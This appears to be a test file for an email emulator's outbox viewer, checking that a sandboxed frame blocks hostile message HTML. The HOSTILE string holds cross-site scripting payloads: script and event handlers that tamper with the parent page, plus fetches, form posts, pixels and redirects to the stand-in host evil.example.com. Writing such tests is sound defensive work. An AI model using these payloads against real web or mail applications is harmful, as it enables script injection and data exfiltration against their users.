import { expect, it } from 'vitest'
import { startEmulator } from '../../../src/index.js'
import { hasNoBrowser, useBrowser } from '../../support/browser.js'

const browser = useBrowser()

/** HTML that tries to run scripts, to leave its frame, to send data, and to load from elsewhere. */
const HOSTILE = `<p>Hello</p>
<script>top.document.title = 'hacked'; fetch('https://evil.example.com/script')</script>
<img src="x:" onerror="parent.document.title = 'hacked'">
<svg onload="parent.document.title = 'hacked'"></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
<iframe src="https://evil.example.com/frame"></iframe>
<link rel="stylesheet" href="https://evil.example.com/style.css">
<style>p { background: url(https://evil.example.com/style.png) }</style>
<img src="https://evil.example.com/pixel.gif" srcset="https://evil.example.com/2.gif 2x">
<form action="https://evil.example.com/form" method="post"><button id="send">Send</button></form>
<a id="top" target="_top" href="https://evil.example.com/top">Top</a>`

it.skipIf(hasNoBrowser)(
  'hostile HTML of a message runs nothing, loads nothing, and stays in its frame',
  async () => {
    await using emulator = await startEmulator({ port: 0 })
    await using account = await emulator.account()
    await account.seed({ version: 1, profiles: [{ email: 'ada@example.com' }] })
    const sent = await fetch(`${account.url}/__admin/messages?account=${account.companyId}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ profile: 'ada@example.com', subject: '<b>Hello</b>', html: HOSTILE }),
    })
    const { id } = (await sent.json()) as { readonly id: string }
    const { page, outside, errors } = await browser.openPage()
    await page.goto(`${account.url}/__admin/ui/outbox/${id}?account=${account.companyId}`)
    const frame = page.frameLocator('[data-test="outbox-frame"]')
    await frame.getByText('Hello').waitFor()
    expect(await page.locator('article.detail h2').innerText()).toBe('<b>Hello</b>')

    await frame.locator('#send').click()
    await frame.locator('#top').click({ noWaitAfter: true })
    await page.locator('[data-test="tab-links"]').click()
    await page.locator('[data-test="outbox-link"]').first().waitFor()
    expect(await page.title()).toContain('Outbox')
    expect(page.url()).toContain(`/outbox/${id}`)
    expect(outside).toEqual([])
    const refused = /Content Security Policy|sandboxed|ERR_UNKNOWN_URL_SCHEME|not allowed|Blocked/
    expect(errors.filter((error) => !refused.test(error))).toEqual([])
  },
)
